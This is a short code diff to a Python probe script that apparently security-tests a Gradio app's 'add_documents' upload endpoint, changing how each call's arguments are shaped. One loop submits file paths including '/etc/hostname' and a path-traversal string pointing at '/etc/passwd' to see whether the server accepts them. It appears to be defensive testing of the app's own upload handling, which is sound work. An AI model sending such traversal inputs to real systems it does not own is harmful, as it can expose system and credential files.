@@ -554,7 +554,8 @@ def probe_uploads(work: Path, url: str) -> Row:
             )
             paths = response.json() if response.status_code == 200 else []
             for path in paths if isinstance(paths, list) else []:
-                data = [[{"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}]]
+                files = [{"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}]
+                data = [files, False, False]  # files, replace, keep_both
                 ok, result = call(url, "add_documents", data)
                 added += ok and isinstance(result, dict) and bool(result.get("added"))
                 log(f"  upload {name!r} -> {path}: {'ok' if ok else 'error'} {str(result)[:200]}")
@@ -567,7 +568,8 @@ def probe_uploads(work: Path, url: str) -> Row:
     for path in ["/etc/hostname", str(work / "index" / "CURRENT"), "../../../../../../etc/passwd"]:
         trials += 1
         try:
-            ok, result = call(url, "add_documents", [[{"path": path, "meta": {"_type": "gradio.FileData"}}]])
+            files = [{"path": path, "meta": {"_type": "gradio.FileData"}}]
+            ok, result = call(url, "add_documents", [files, False, False])
             log(f"  add_documents {path!r}: {'ok' if ok else 'error'} {str(result)[:200]}")
         except OSError as exc:
             log(f"  add_documents {path!r}: {type(exc).__name__}: {exc}")
